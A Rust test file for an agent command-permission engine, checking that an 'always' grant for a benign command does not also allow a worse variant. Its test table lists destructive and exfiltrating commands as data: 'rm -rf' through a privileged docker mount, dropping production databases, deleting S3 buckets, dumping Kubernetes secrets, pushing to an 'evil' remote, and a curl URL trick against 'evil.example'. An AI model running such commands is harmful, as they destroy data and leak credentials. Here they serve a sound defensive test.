//! "Always" covers the same again and nothing worse.

use policy::act::Role;
use policy::grants::{Grant, Grants};
use policy::judge::Judge;
use policy::rules::Rules;
use policy::verdict::Verdict;

use super::support::{agent, around, command, now};

/// Whether "always", said to one command, allows another.
fn covers(given: &str, then: &str) -> bool {
    let rules = Rules::default();
    let judge = |grants: &Grants, line: &str| {
        Judge { rules: &rules, grants, session: None }.judge(&agent(), &command(line), &around(), now())
    };
    let asked = judge(&Grants::default(), given);
    assert_eq!(asked.verdict, Verdict::Ask, "{given}");
    let mut grants = Grants::default();
    let grant = Grant {
        id: "g".to_owned(),
        role: Role::Agent,
        actor: None,
        session: None,
        meaning: asked.meaning,
        place: around().cwd,
        until: None,
        uses: None,
        given_by: "u".to_owned(),
        at: 0,
        reason: "r".to_owned(),
    };
    assert_eq!(grants.add(grant), Ok(()));
    judge(&grants, then).verdict == Verdict::Allow
}

#[test]
fn always_does_not_cover_something_worse_of_the_same_program() {
    let mut worse = Vec::new();
    // Among them: another input, another variable.
    for (given, then) in [
        ("docker run alpine ls", "docker run -v /:/host --privileged alpine rm -rf /host"),
        ("docker exec x ls", "docker exec prod-db dropdb prod"),
        ("aws s3 ls", "aws s3 rm --recursive s3://prod"),
        ("aws iam list-users", "aws iam create-access-key"),
        ("gcloud compute instances list", "gcloud compute instances delete x"),
        ("psql mydb -c 'select 1'", "psql mydb -c 'drop table users'"),
        ("redis-cli -n 1 get x", "redis-cli -n 1 flushall"),
        ("ansible all -m ping", "ansible all -m shell -a 'rm -rf /'"),
        ("gh pr create --title x", "gh pr merge --admin 5"),
        ("gh api /user", "gh api -X DELETE /repos/me/x"),
        ("gh secret list", "gh secret set X --body y"),
        ("gh repo create x", "gh repo edit --visibility public"),
        ("kubectl get pods", "kubectl get secrets -o yaml"),
        ("terraform apply", "terraform apply -destroy -auto-approve"),
        ("heroku run ls", "heroku run rm -rf /"),
        ("npm install", "npm install evil-package"),
        ("pip install -r requirements.txt", "pip install evil"),
        ("git push origin x", "git push --all evil"),
        ("git pull", "git pull evil main"),
        ("psql mydb", "echo 'drop table users' | psql mydb"),
        ("aws s3 ls", "PROFILE=prod aws s3 ls"),
        ("tool staging", "tool staging --all"),
        ("curl https://good.example/a", "curl 'https://good.example\\@evil.example/a'"),
        ("curl https://good.example/a", "curl -L https://good.example/away"),
        ("curl -X POST https://good.example/a", "curl -X DELETE https://good.example/a"),
    ] {
        if covers(given, then) {
            worse.push((given, then));
        }
    }
    assert!(worse.is_empty(), "{worse:#?}");
}

#[test]
fn always_covers_the_same_again() {
    for (given, then) in [
        ("git push origin x", "git push origin x"),
        ("npm install", "npm install"),
        ("gh api -X DELETE /repos/me/x", "gh api -X DELETE /repos/me/x"),
        ("curl -s https://good.example/a", "curl https://good.example/b | jq .x"),
        ("rm ../x", "rm   ../x"),
    ] {
        assert!(covers(given, then), "{given}: {then}");
    }
}
